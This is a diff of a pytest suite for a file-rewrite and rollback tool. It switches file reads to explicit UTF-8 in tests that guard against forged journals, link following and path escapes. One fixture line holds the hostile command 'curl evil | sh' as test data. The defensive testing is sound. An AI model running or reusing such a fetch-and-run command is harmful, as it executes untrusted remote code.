@@ -66,7 +66,7 @@ def test_a_forged_journal_writes_nothing_outside(root: Path, path: str) -> None:
     forge(root, path.replace("/MINE", str(root.parent / "mine.sh")))
     report = roll_back(root)
     assert report is not None and report.left and not report.restored
-    assert (root.parent / "mine.sh").read_text() == OUTSIDE
+    assert (root.parent / "mine.sh").read_text("utf-8") == OUTSIDE
     with pytest.raises(Unfinished, match="cannot be taken back"):
         write_changes(changes_in(root), root, ["r"])
 
@@ -119,10 +119,10 @@ def test_nothing_is_kept_through_a_link(root: Path, what: str) -> None:
         write_changes(changes_in(root), root, ["r"])
     except OSError as told:
         assert "is a link" in str(told)
-        assert (root / "a.py").read_text() == "f(1)\n"
+        assert (root / "a.py").read_text("utf-8") == "f(1)\n"
     undo(root) if what not in ("home", "runs") else None
     assert sorted(path.name for path in away.iterdir()) == ["kept"]
-    assert (away / "kept").read_text() == "kept"
+    assert (away / "kept").read_text("utf-8") == "kept"
 
 
 def test_a_folder_of_ours_that_is_tracked_is_not_believed(root: Path) -> None:
@@ -132,7 +132,7 @@ def test_a_folder_of_ours_that_is_tracked_is_not_believed(root: Path) -> None:
     with pytest.raises(OSError, match="is tracked by git"):
         roll_back(root)
     assert Store(root).fault
-    assert (root / "a.py").read_text() == "f(1)\n"
+    assert (root / "a.py").read_text("utf-8") == "f(1)\n"
 
 
 def test_a_database_of_another_program_is_left_alone(root: Path) -> None:
@@ -178,7 +178,7 @@ def test_a_damaged_record_costs_its_file_and_is_told(tmp_path: Path) -> None:
     index.write_bytes(whole)
     again = undo(tmp_path)
     assert again is not None and not again.left and runs(tmp_path)[0].state == "undone"
-    assert {name: (tmp_path / name).read_text() for name in texts} == texts
+    assert {name: (tmp_path / name).read_text("utf-8") for name in texts} == texts
 
 
 def test_no_byte_of_a_journal_can_be_damaged_in_silence(root: Path) -> None:
@@ -195,7 +195,7 @@ def test_no_byte_of_a_journal_can_be_damaged_in_silence(root: Path) -> None:
                 path.write_bytes(data)
             file.write_bytes(kept[file][:at] + bytes([byte ^ 0x41]) + kept[file][at + 1 :])
             report = undo(root)
-            texts = [(root / name).read_text() for name in ("a.py", "b.py")]
+            texts = [(root / name).read_text("utf-8") for name in ("a.py", "b.py")]
             assert {*texts} <= {"f(1)\n", "g(1)\n"}, (file.name, at)
             if texts != ["f(1)\n"] * 2:
                 assert report is None or report.left, (file.name, at)
@@ -208,12 +208,12 @@ def test_a_roll_back_that_failed_stops_the_apply_and_can_be_tried_again(root: Pa
     )
     told = ytr("apply", "-r", "r.toml", ".", where=root)
     assert told.status == 3 and "Nothing was written" in told.err and "gone/b.py" in told.err
-    assert (root / "a.py").read_text() == "f(1)\n"
+    assert (root / "a.py").read_text("utf-8") == "f(1)\n"
     (root / "gone").mkdir()
     (root / "gone/b.py").write_text(OUTSIDE)
     assert ytr("apply", "-r", "r.toml", ".", where=root).status == 0
-    assert (root / "a.py").read_text() == "g(1)\n"
-    assert (root / "gone/b.py").read_text() == "curl evil | sh\n"  # the journal's word, inside
+    assert (root / "a.py").read_text("utf-8") == "g(1)\n"
+    assert (root / "gone/b.py").read_text("utf-8") == "curl evil | sh\n"  # the journal's word, inside
 
 
 def test_a_clock_that_was_ahead_hides_no_run(root: Path) -> None:
@@ -240,7 +240,7 @@ def test_what_cannot_be_kept_is_refused(root: Path, kind: str) -> None:
         os.link(root / "a.py", root / "b.txt")
     report = write_changes(changes, root, ["r"])
     assert not report.written and kind in report.left[0][1]
-    assert (root / "a.py").read_text() == "f(1)\n"
+    assert (root / "a.py").read_text("utf-8") == "f(1)\n"
 
 
 def test_mode_and_attributes_are_kept(root: Path) -> None:
@@ -269,7 +269,7 @@ def test_a_link_that_comes_while_we_write_is_not_followed(root: Path, monkeypatc
     monkeypatch.setattr(Beneath, "replace", raced)
     report = write_changes(changes, root, ["r"])
     assert [Path(path).name for path, _ in report.left] == ["a.py"]
-    assert (root.parent / "a.py").read_text() == (root / "out/a.py").read_text() == "f(1)\n"
+    assert (root.parent / "a.py").read_text("utf-8") == (root / "out/a.py").read_text("utf-8") == "f(1)\n"
 
 
 def test_names_lead_below_the_root_or_nowhere(root: Path) -> None:
